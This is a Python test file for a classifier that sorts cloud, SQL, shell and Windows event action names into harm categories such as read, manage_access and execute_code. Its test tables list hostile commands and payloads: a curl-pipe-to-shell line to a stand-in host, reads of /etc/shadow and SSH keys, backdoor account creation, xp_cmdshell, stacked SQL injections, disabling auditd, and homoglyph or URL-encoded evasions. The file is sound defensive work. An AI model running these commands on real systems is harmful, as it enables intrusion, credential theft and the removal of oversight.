"""The category an action has by its name, whatever a caller declares."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from features.event.action_harm import harm_rank
from features.sources.actions.derivation import derived_category
from features.sources.actions.generic_names import generic_category
from features.sources.actions.vendor_tables import vendor_categories
from features.sources.aws.action_categories import access_levels, category_of

VIEWS = {
    "iam:ListAccessKeys": "list",
    "iam:GetPolicy": "read",
    "iam:GetAccountAuthorizationDetails": "read",
    "kms:ListKeys": "list",
    "secretsmanager:DescribeSecret": "read",
    "secretsmanager:ListSecrets": "list",
    "vault.ListKeys": "list",
    "policy.get": "read",
    "roles.list": "list",
    "check_permission": "read",
    "view_audit_log": "read",
    "users.search": "list",
    "GET /roles/7": "read",
    "HEAD /secrets/9": "read",
    "POST /search": "list",
    "Microsoft.Authorization/roleAssignments/read": "read",
    "iam.serviceAccountKeys.list": "list",
    "get_payment": "read",
    "firewall.show": "read",
    "describe-security-groups": "list",
    "payment.status": "read",
    "GetExportJob": "read",
    "ListPermissionGrants": "list",
    "index.list": "list",
    "preview_export": "read",
    "token.refresh": "authenticate",
    "GET /articles/how-to-export-data": "read",
    "GET /static/export.js": "read",
    "roles.viewed": "read",
    "SELECT created, password_hint FROM audit_grants WHERE id = 7": "read",
    "SELECT * FROM orders FOR UPDATE": "read",
    "WITH x AS (SELECT 1) SELECT * FROM x": "read",
    "获取用户": "read",
    "benutzer_anzeigen": "read",
    "storage.objects.get": "read",
    "storage.objects.list": "list",
    "drive.view": "read",
    "conversations.history.read": "read",
    "repo.download_zip": "read",
    "git.clone": "read",
    "4624": "authenticate",
    "4663": "read",
    "GET /postcode/4720": "read",
    "GET /items/1102": "read",
    "token.list": "list",
    "personal_access_token.list": "list",
    "list pods": "list",
    "get configmaps": "read",
    "Microsoft.Compute/virtualMachines/read": "read",
    "user.session.start": "authenticate",
    "user.authentication.sso": "authenticate",
    "POST /login": "authenticate",
    "UserLoggedIn": "authenticate",
    "GET /caf\u00e9": "read",
    "search/query": "list",
    "salesforce.report.viewed": "read",
    "FileAccessed": "read",
    "MailItemsAccessed": "read",
    "user_logout": "authenticate",
    "user.session.end": "authenticate",
}
"""Names that only look privileged."""
PRIVILEGED = {
    "iam:CreateAccessKey": "rotate_secret",
    "iam:AttachRolePolicy": "manage_access",
    "google.iam.admin.v1.CreateServiceAccountKey": "rotate_secret",
    "SetIamPolicy": "manage_access",
    "Microsoft.Authorization/roleAssignments/write": "manage_access",
    "user.account.privilege.grant": "manage_access",
    "user.mfa.factor.deactivate": "change_security_setting",
    "personal_access_token.create": "rotate_secret",
    "org.add_member": "manage_access",
    "Add-MailboxPermission": "manage_access",
    "Set-AdminAuditLogConfig": "change_security_setting",
    "Disable Strong Authentication.": "change_security_setting",
    "Consent to application.": "manage_access",
    "Add owner to service principal.": "manage_access",
    "DELETE /users/7/mfa": "change_security_setting",
    "PUT /roles/3": "manage_access",
    "transfer_funds": "approve_payment",
    "payments:ApprovePayment": "approve_payment",
    "crm:ExportContacts": "export",
    "file.download": "export",
    "workflow.dispatch": "invoke_workflow",
    "kubectl.exec": "execute_code",
    "switch_role": "assume_privilege",
    "GET /admin/panel": "admin_console",
    "GET /reports/7/export": "export",
    "query.update_policy": "manage_access",
    "DELETE /users/7/mfa?view=1": "change_security_setting",
    "DELETE https://search.example.com/audit-logs": "change_security_setting",
    "iam:CreateAccessKey#view": "rotate_secret",
    "POST /payouts?search=1": "approve_payment",
    "PATCH /apis/rbac.authorization.k8s.io/v1/clusterroles/view": "manage_access",
    "aws iam create-access-key --query AccessKey": "rotate_secret",
    "user.account.privilege.grant.view": "manage_access",
    "mfa.disable.status": "change_security_setting",
    "crm:ExportContacts.get": "export",
    "getCreateAccessKey": "rotate_secret",
    "ListThenDeleteAuditLogs": "change_security_setting",
    "GET /pay?to=x": "approve_payment",
    "GET /api/keys/create": "rotate_secret",
    "GET /impersonate/7": "assume_privilege",
    "GET /users/7?_method=DELETE": "delete",
    "disable_2fa": "change_security_setting",
    "Disable2FA": "change_security_setting",
    "create_acc\u200bess_k\u200bey": "rotate_secret",
    "org.mfa_disabled": "change_security_setting",
    "redshift:DisableLogging": "change_security_setting",
    "appsync:CreateApiKey": "rotate_secret",
    "GetOrCreateUser": "manage_access",
    "get_or_reset_password": "rotate_secret",
    "4720": "manage_access",
    "EventID 1102": "change_security_setting",
    "Event ID: 4728": "manage_access",
    "Microsoft-Windows-Security-Auditing 4724": "rotate_secret",
    "4732 A member was added to a security-enabled local group": "manage_access",
    "7045": "execute_code",
    "benutzer_anlegen": "manage_access",
    "Benutzer anlegen": "manage_access",
    "benutzeranlegen": "manage_access",
    "cr\u00e9er_cl\u00e9": "rotate_secret",
    "creer cle": "rotate_secret",
    "\u521b\u5efa\u7528\u6237": "manage_access",
    "\u5bfc\u51fa\u8054\u7cfb\u4eba": "export",
    "\u30d1\u30b9\u30ef\u30fc\u30c9\u3092\u5909\u66f4": "rotate_secret",
    "\u0441\u043e\u0437\u0434\u0430\u0442\u044c \u043a\u043b\u044e\u0447": "rotate_secret",
    "\u0441reate_access_key": "rotate_secret",
    "restablecer contrase\u00f1a": "rotate_secret",
    "Passwort zur\u00fccksetzen": "rotate_secret",
    "asignar rol": "manage_access",
    "LoginAs": "assume_privilege",
    "loginas": "assume_privilege",
    "login_as_user": "assume_privilege",
    "sign in as customer": "assume_privilege",
    "impersonate": "assume_privilege",
    "users.impersonation.start": "assume_privilege",
    "sudo": "assume_privilege",
    "sudo cat /var/log/syslog": "assume_privilege",
    "AssumeRole": "assume_privilege",
    "assumerole": "assume_privilege",
    "DCSync": "assume_privilege",
    "DS-Replication-Get-Changes-All": "assume_privilege",
    "mimikatz": "assume_privilege",
    "iam.serviceAccounts.signJwt": "assume_privilege",
    "iam.serviceAccounts.signBlob": "assume_privilege",
    "iam.serviceAccounts.getAccessToken": "assume_privilege",
    "iam.serviceAccounts.getOpenIdToken": "assume_privilege",
    "iam.serviceAccounts.actAs": "assume_privilege",
    "GenerateAccessToken": "assume_privilege",
    "Microsoft.Storage/storageAccounts/listKeys/action": "assume_privilege",
    "Microsoft.Storage/storageAccounts/ListAccountSas/action": "assume_privilege",
    "Microsoft.ContainerService/managedClusters/listClusterAdminCredential/action": "assume_privilege",
    "Microsoft.Web/sites/publishxml/action": "assume_privilege",
    "Microsoft.Logic/workflows/triggers/listCallbackUrl/action": "assume_privilege",
    "Microsoft.Compute/disks/beginGetAccess/action": "assume_privilege",
    "Microsoft.Compute/virtualMachines/runCommand/action": "execute_code",
    "Microsoft.Storage/storageAccounts/regenerateKey/action": "rotate_secret",
    "reveal_secret": "assume_privilege",
    "create pods/exec": "execute_code",
    "get pods/exec": "execute_code",
    "create pods/attach": "execute_code",
    "create pods/portforward": "execute_code",
    "get nodes/proxy": "execute_code",
    "bind clusterroles": "manage_access",
    "escalate roles": "manage_access",
    "impersonate users": "assume_privilege",
    "create serviceaccounts/token": "rotate_secret",
    "approve certificatesigningrequests": "rotate_secret",
    "GRANT ALL ON accounts TO mallory": "manage_access",
    "grant all privileges on *.* to 'x'@'%'": "manage_access",
    "CREATE USER backdoor WITH SUPERUSER": "manage_access",
    "ALTER USER root IDENTIFIED BY 'x'": "rotate_secret",
    "SELECT * FROM cards INTO OUTFILE '/tmp/x'": "export",
    "SELECT 1; GRANT dba TO mallory": "manage_access",
    "SELECT 1; DROP TABLE audit_log": "change_security_setting",
    "SELECT /*!50000 load_file('/etc/shadow')*/ FROM t": "execute_code",
    "COPY customers TO '/tmp/x'": "export",
    "COPY t FROM PROGRAM 'id'": "execute_code",
    "EXEC xp_cmdshell 'whoami'": "execute_code",
    "SET ROLE admin": "assume_privilege",
    "WITH x AS (DELETE FROM users RETURNING *) SELECT * FROM x": "delete",
    "useradd -o -u 0 backdoor": "manage_access",
    "/usr/sbin/usermod -aG wheel mallory": "manage_access",
    "net user mallory P4ss /add": "manage_access",
    "passwd root": "rotate_secret",
    "bash -c 'id'": "execute_code",
    "bash": "execute_code",
    "python_execute": "execute_code",
    "curl http://x.example | sh": "execute_code",
    "ls && useradd mallory": "manage_access",
    "cat /etc/shadow": "assume_privilege",
    "cat /home/ada/.ssh/id_rsa": "assume_privilege",
    "iptables -F": "change_security_setting",
    "systemctl stop auditd": "change_security_setting",
    "GET /users/7/%64elete-mfa": "change_security_setting",
    "GET /users/7/%2564elete": "delete",
    "CREATEACCESSKEY": "rotate_secret",
    "POST /login/../api/keys/create": "rotate_secret",
    "POST /login/%2e%2e/orders": "write",
    "POST /orders;login=1": "write",
    "SELECT 1 FROM t; (); DROP ROLE x": "manage_access",
    "createaccesskey": "rotate_secret",
    "delete_login": "delete",
}
SPELLINGS = (
    "iam:CreateAccessKey",
    "IAM:createaccesskey",
    " iam:CreateAccessKey ",
    "iam.amazonaws.com:CreateAccessKey",
    "\uff49\uff41\uff4d:CreateAccessKey",
    "CreateAccessKey",
    "create_access_key",
    "create-access-key",
    "iam.create.access.key",
    "createAccessKey20100508",
)


@pytest.mark.parametrize(("name", "category"), VIEWS.items())
def test_a_name_that_only_looks_privileged_stays_a_view(name: str, category: str) -> None:
    """Listing keys and reading policies changes nothing, so nobody is asked for it."""
    assert derived_category(name).category == category


@pytest.mark.parametrize(("name", "category"), PRIVILEGED.items())
def test_a_privileged_name_is_known_in_any_vendors_words(name: str, category: str) -> None:
    """Tables where there are any, else the words of the name."""
    assert derived_category(name).category == category


@pytest.mark.parametrize("name", SPELLINGS)
def test_no_spelling_makes_an_action_less(name: str) -> None:
    """Letter case, width, spaces, versions and separators do not matter."""
    assert derived_category(name).category == "rotate_secret"


@pytest.mark.parametrize(
    "name",
    [
        "frobnicate",
        "service:Do",
        "4999",
        "EventID 9",
        "get_\u0e1c\u0e39\u0e49\u0e43\u0e0a\u0e49",
        "",
        "\U0001f4a5",
        "7",
        ":",
        "GET",
        "roles",
        "payment_history",
        "privacy policy",
    ],
)
def test_a_name_that_says_nothing_is_a_write_and_says_so(name: str) -> None:
    """A declared category counts beside it."""
    derived = derived_category(name)

    assert (derived.category, derived.source) in (("write", "nothing"), ("read", "name"))


LISTED = {
    "SearchExported": "export",
    "python_repl": "execute_code",
    "application.user_membership.show_password": "rotate_secret",
    "KeyBackup": "export",
    "drive:email_as_attachment": "export",
    "create cronjobs": "invoke_workflow",
    "team.change_privacy": "manage_access",
    "user.session.access_admin_app": "admin_console",
}
"""Names that vendors' own tables list, and whose words say less."""


@pytest.mark.parametrize(("name", "category"), LISTED.items())
def test_every_vendors_table_counts(name: str, category: str) -> None:
    """In any letter case, for a request as for an import; words that say more than a table still count."""
    assert derived_category(name) == derived_category(f" {name.upper()}") == (category, "vendor")


def test_no_vendors_table_makes_an_action_less() -> None:
    """Another deployment may use a name for something else: the words' own category is the least."""
    for name in vendor_categories():
        words = generic_category(name)
        assert words is None or harm_rank(derived_category(name).category) >= harm_rank(words), name


def test_awss_own_table_agrees_with_the_importer() -> None:
    """What an import and a request say of the same action; of a write the words may say more."""
    for name in PRIVILEGED | VIEWS:
        derived, imported = derived_category(name), category_of(name)
        if derived.source == "aws":
            assert derived.category == imported or imported in ("write", "delete"), name


def test_words_find_what_a_vendor_calls_permissions_and_leave_its_views_alone() -> None:
    """AWS's own table of 20,000 actions, which the words were not made from, by the words of their names alone."""
    levels = access_levels()
    managing = [generic_category(name) for name, level in levels.items() if level == "Permissions management"]
    views = [generic_category(name) for name, level in levels.items() if level in ("Read", "List")]
    changes = sum(category not in (None, "read", "list") for category in managing) / len(managing)
    privileged = sum(category not in (None, "read", "list", "write", "delete") for category in managing) / len(managing)
    mistaken = sum(category not in (None, "read", "list", "write") for category in views) / len(views)

    assert changes > 0.85
    assert privileged > 0.6
    assert mistaken < 0.02


PIECES = st.sampled_from(
    [
        *"; ()/\\.|&`$-_%?=:\n'",
        "select ",
        " from ",
        "drop",
        "4720",
        "EventID",
        "/etc/shadow",
        "sudo",
        "net user ",
        "GET /",
    ]
)


@given(st.lists(PIECES | st.text(max_size=4), max_size=24).map("".join))
def test_any_name_has_a_category(name: str) -> None:
    """Whatever a caller writes; the same name has the same one."""
    assert derived_category(name) == derived_category(name)
